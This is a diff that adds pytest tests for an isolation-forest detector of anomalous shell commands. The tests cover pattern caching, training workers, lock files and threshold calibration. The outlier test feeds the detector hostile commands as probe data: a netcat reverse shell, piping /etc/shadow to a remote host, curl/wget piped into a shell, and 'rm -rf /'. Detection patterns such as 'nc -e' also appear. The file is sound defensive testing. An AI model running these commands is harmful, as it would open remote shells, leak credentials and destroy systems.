@@ -0,0 +1,271 @@
+import os
+from types import SimpleNamespace
+
+import pytest
+
+import isolation_forest_runtime as runtime
+from conftest import SEED_TRAINING_COMMANDS
+
+
+class FakeClock:
+    def __init__(self, now=1000.0):
+        self.now = now
+
+    def monotonic(self):
+        return self.now
+
+
+def _pattern_rows(*regexes):
+    return [{"pattern_name": r, "pattern_regex": r, "boost_value": 0.1, "severity": "low"} for r in regexes]
+
+
+def test_compiled_patterns_reload_after_ttl_or_invalidation(monkeypatch):
+    clock = FakeClock()
+    reads = []
+    rows = _pattern_rows("wget", "nc -e")
+
+    def fetch():
+        reads.append(clock.now)
+        return [dict(r) for r in rows]
+
+    monkeypatch.setattr(runtime, "time", SimpleNamespace(monotonic=clock.monotonic))
+    monkeypatch.setattr(runtime, "PATTERN_CACHE_TTL", 60.0)
+    monkeypatch.setattr(runtime, "_PATTERN_CACHE", {"patterns": None, "expires_at": 0.0})
+    monkeypatch.setattr(runtime, "_get_feature_patterns", fetch)
+
+    first = runtime.get_compiled_patterns()
+    assert [p.pattern for p, _ in first] == ["wget", "nc -e"]
+    clock.now += 59
+    assert runtime.get_compiled_patterns() is first
+    assert len(reads) == 1
+
+    rows.append(_pattern_rows("base64 -d")[0])
+    clock.now += 2
+    assert len(runtime.get_compiled_patterns()) == 3
+    assert len(reads) == 2
+
+    rows.pop(0)
+    runtime.invalidate_pattern_cache()
+    assert [p.pattern for p, _ in runtime.get_compiled_patterns()] == ["nc -e", "base64 -d"]
+    assert len(reads) == 3
+
+
+def test_compiled_patterns_survive_failed_reload(monkeypatch):
+    clock = FakeClock()
+    results = [_pattern_rows("wget", "(unclosed"), None]
+    monkeypatch.setattr(runtime, "time", SimpleNamespace(monotonic=clock.monotonic))
+    monkeypatch.setattr(runtime, "PATTERN_CACHE_TTL", 60.0)
+    monkeypatch.setattr(runtime, "_PATTERN_CACHE", {"patterns": None, "expires_at": 0.0})
+    monkeypatch.setattr(runtime, "_get_feature_patterns", lambda: results.pop(0))
+
+    first = runtime.get_compiled_patterns()
+    assert [p.pattern for p, _ in first] == ["wget"]  # invalid regex skipped
+    runtime.invalidate_pattern_cache()
+    assert runtime.get_compiled_patterns() is first
+    # The failed read backs off instead of hitting the database on every call
+    assert runtime._PATTERN_CACHE["expires_at"] == clock.now + 5.0
+
+
+def test_ensure_model_loaded_fails_fast_while_training(isolated_runtime, monkeypatch):
+    started = []
+
+    def fake_start(reason="manual", model_name=None):
+        started.append(reason)
+        runtime._TRAINING_STATUS.update(state="running", stage="fitting")
+        return True
+
+    monkeypatch.setattr(runtime, "start_training", fake_start)
+    try:
+        runtime.ensure_model_loaded()
+    except runtime.ModelNotReady as e:
+        assert "being trained" in str(e)
+    else:
+        raise AssertionError("expected ModelNotReady")
+    assert started == ["initial"]
+
+
+class FakeQueue:
+    def __init__(self, messages):
+        self.messages = list(messages)
+
+    def get(self, timeout=None):
+        if not self.messages:
+            raise TimeoutError
+        return self.messages.pop(0)
+
+
+class FakeProcess:
+    def is_alive(self):
+        return False
+
+    def join(self, timeout=None):
+        pass
+
+
+def test_watch_training_hot_swaps_finished_model(isolated_runtime, monkeypatch):
+    model, meta = runtime._fit_model()
+    runtime._write_artifacts(model, meta)
+    runtime._TRAINING_STATUS.update(state="running", job_id=3)
+    monkeypatch.setattr(runtime, "_TRAINING_DONE", runtime.threading.Event())
+    assert runtime._RUNTIME_CACHE["model"] is None
+
+    queue = FakeQueue([("progress", "fitting", 0.45), ("done", meta["version"])])
+    runtime._watch_training(FakeProcess(), queue, 3)
+
+    assert runtime._RUNTIME_CACHE["version"] == meta["version"]
+    assert runtime._RUNTIME_CACHE["compiled"] is not None
+    assert runtime.training_status()["state"] == "succeeded"
+    assert runtime.wait_for_training(0)
+    loaded, loaded_meta = runtime.ensure_model_loaded()
+    assert loaded is runtime._RUNTIME_CACHE["model"] and loaded_meta["version"] == meta["version"]
+
+
+def test_watch_training_reports_process_that_died(isolated_runtime, monkeypatch):
+    runtime._TRAINING_STATUS.update(state="running", job_id=4)
+    monkeypatch.setattr(runtime, "_TRAINING_DONE", runtime.threading.Event())
+    runtime._watch_training(FakeProcess(), FakeQueue([]), 4)
+    status = runtime.training_status()
+    assert status["state"] == "failed" and "without reporting" in status["last_error"]
+    assert runtime._RUNTIME_CACHE["model"] is None
+
+
+class FakeSpawnContext:
+    """multiprocessing context whose training processes fail straight away."""
+
+    def __init__(self):
+        self.started = 0
+
+    def Queue(self):
+        return FakeQueue([("error", "Error: Can't connect to MySQL server")])
+
+    def Process(self, **kwargs):
+        ctx = self
+
+        class Proc(FakeProcess):
+            def start(self):
+                ctx.started += 1
+
+        return Proc()
+
+
+def test_failed_training_is_not_restarted_inside_the_backoff(isolated_runtime, monkeypatch):
+    ctx = FakeSpawnContext()
+    monkeypatch.setattr(runtime.multiprocessing, "get_context", lambda method: ctx)
+    monkeypatch.setattr(runtime, "_TRAINING_DONE", runtime.threading.Event())
+    monkeypatch.setattr(runtime, "TRAINING_RETRY_BACKOFF", 300.0)
+
+    with pytest.raises(runtime.ModelNotReady):
+        runtime.ensure_model_loaded()
+    assert runtime.wait_for_training(5)
+    assert runtime.training_status()["state"] == "failed"
+    lock_path = os.path.join(runtime.MODELS_DIR, runtime.TRAINING_LOCK_NAME)
+    assert not os.path.exists(lock_path)  # released when the job ended
+
+    for _ in range(20):
+        with pytest.raises(runtime.ModelNotReady, match="Can't connect to MySQL server; training is retried in"):
+            runtime.ensure_model_loaded()
+    assert ctx.started == 1
+
+    monkeypatch.setattr(runtime, "TRAINING_RETRY_BACKOFF", 0.0)
+    with pytest.raises(runtime.ModelNotReady):
+        runtime.ensure_model_loaded()
+    assert ctx.started == 2
+
+
+def test_only_the_worker_holding_the_lock_file_trains(isolated_runtime, monkeypatch):
+    started = []
+    monkeypatch.setattr(runtime, "start_training", lambda reason="manual", model_name=None: started.append(reason) or True)
+    lock_path = os.path.join(runtime.MODELS_DIR, runtime.TRAINING_LOCK_NAME)
+    with open(lock_path, "w") as f:
+        f.write(str(os.getppid()))  # another live process
+
+    runtime.preload_model()
+    with pytest.raises(runtime.ModelNotReady, match="another worker"):
+        runtime.ensure_model_loaded()
+    assert started == []
+
+    # The holder died without cleaning up: the lock is taken over
+    with open(lock_path, "w") as f:
+        f.write("999999999")
+    runtime.preload_model()
+    assert started == ["startup"]
+    with open(lock_path) as f:
+        assert f.read() == str(os.getpid())
+
+
+# Everyday shell usage that never appears in the training data
+BENIGN_COMMANDS = [
+    "ls", "ls -la", "ls -lah /var/log", "pwd", "cd ..", "cd /tmp", "git status", "git log --oneline -5",
+    "git diff", "git pull", "git commit -m fix", "npm test", "npm run build", "pip install requests",
+    "python manage.py runserver", "python3 app.py", "vim README.md", "nano notes.txt", "cat README.md",
+    "less file.log", "tail -f app.log", "head -n 20 data.csv", "grep -r TODO src", "find . -name '*.py'",
+    "mkdir build", "rm old.txt", "cp a.txt b.txt", "mv draft.md final.md", "touch new.txt", "echo hello",
+    "whoami", "date", "df -h", "du -sh .", "top", "ps aux", "history", "clear", "exit", "make", "docker ps",
+    "ssh user@server", "ping -c 3 example.com", "curl https://example.com", "tar -xzf archive.tar.gz",
+    "unzip files.zip", "chmod 644 file.txt", "man ls", "code .", "node index.js",
+]
+
+
+def test_threshold_is_a_percentile_of_the_training_scores(trained_runtime):
+    meta = trained_runtime._RUNTIME_CACHE["meta"]
+    # No percentile_threshold configured: 1 - contamination
+    assert meta["score_scale"] == "quantile"
+    assert meta["threshold"] == pytest.approx(0.9)
+
+    results = trained_runtime.score_commands(BENIGN_COMMANDS)
+    false_positives = [r for r in results if r["label"] == "ANOMALY"]
+    assert len(false_positives) / len(results) <= 0.02
+    by_command = dict(zip(BENIGN_COMMANDS, results))
+    assert by_command["ls -la"]["label"] == by_command["git status"]["label"] == "NORMAL"
+
+    configured = dict(meta, config=dict(meta["config"], percentile_threshold=0.75))
+    trained_runtime._calibrate_threshold(configured)
+    assert configured["threshold"] == 0.75
+
+
+def test_one_extreme_outlier_does_not_move_the_cutoff(isolated_runtime, monkeypatch):
+    # Enough rows that one extra sample barely moves the percentiles
+    training = [f"{c} {i}" if i else c for i in range(20) for c in SEED_TRAINING_COMMANDS]
+    outlier = 'bash -c "' + "curl http://198.51.100.7:4444/x.sh | sh; " * 20 + '"'
+    probe = BENIGN_COMMANDS + [
+        "wget http://10.0.0.5/a.sh | sh", "nc -e /bin/sh 10.0.0.9 4444", "cat /etc/shadow | nc 10.0.0.9 4444",
+        "curl http://10.0.0.5/p.py | python", "rm -rf / --no-preserve-root",
+    ]
+
+    labels, spans = [], []
+    for commands in (training, training + [outlier]):
+        monkeypatch.setattr(isolated_runtime, "_iter_training_rows", lambda chunk_size=None, c=commands: iter([
+            [{"id": i + 1, "command_pattern": cmd} for i, cmd in enumerate(c)]
+        ]))
+        model, meta = isolated_runtime._fit_model()
+        spans.append(meta["max_df"] - meta["min_df"])
+        labels.append([r["label"] for r in isolated_runtime.score_with_model(probe, model, meta)])
+    assert spans[1] > spans[0] * 1.1  # the outlier stretches the min/max range...
+    assert labels[0] == labels[1]  # ...but not the labels
+    assert "ANOMALY" in labels[0]
+
+
+def test_models_are_recalibrated_on_load(trained_runtime):
+    import json
+
+    model, meta = trained_runtime._RUNTIME_CACHE["model"], trained_runtime._RUNTIME_CACHE["meta"]
+    trained_runtime._write_artifacts(model, dict(meta))
+    with open(trained_runtime.META_PATH) as f:
+        stored = json.load(f)
+    assert stored["score_scale"] == "quantile" and stored["threshold"] == meta["threshold"]
+
+    # Files written before percentile thresholds carry a threshold converted from the min/max scale
+    stored["threshold"] = 0.853
+    stored["config"]["percentile_threshold"] = 0.8
+    with open(trained_runtime.META_PATH, "w") as f:
+        json.dump(stored, f)
+    _, loaded = trained_runtime._load_if_exists()
+    assert loaded["score_scale"] == "quantile"
+    assert loaded["threshold"] == 0.8
+
+    for key in ("df_quantiles", "threshold", "score_scale"):
+        stored.pop(key)
+    with open(trained_runtime.META_PATH, "w") as f:
+        json.dump(stored, f)
+    _, loaded = trained_runtime._load_if_exists()
+    assert loaded["score_scale"] == "minmax" and loaded["threshold"] == 0.6